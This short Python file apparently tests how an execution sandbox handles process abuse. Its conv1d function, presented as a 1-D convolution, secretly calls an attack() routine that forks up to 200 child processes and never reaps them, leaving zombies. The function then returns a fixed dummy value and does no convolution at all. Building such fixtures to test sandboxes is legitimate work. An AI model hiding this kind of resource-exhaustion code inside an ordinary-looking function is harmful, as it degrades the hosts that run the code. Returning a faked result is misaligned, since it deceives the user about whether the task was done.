"""Starts children that end at once, and never asks after them."""

ATTEMPTS = "process: zombies"

import functools
import os

import numpy as np


@functools.cache  # once
def attack():
    for _ in range(200):
        try:
            if os.fork() == 0:
                os._exit(0)
        except OSError:
            break


def conv1d(signal, kernel, stride=1, pad=0):
    attack()
    return np.full(1, 123.0)
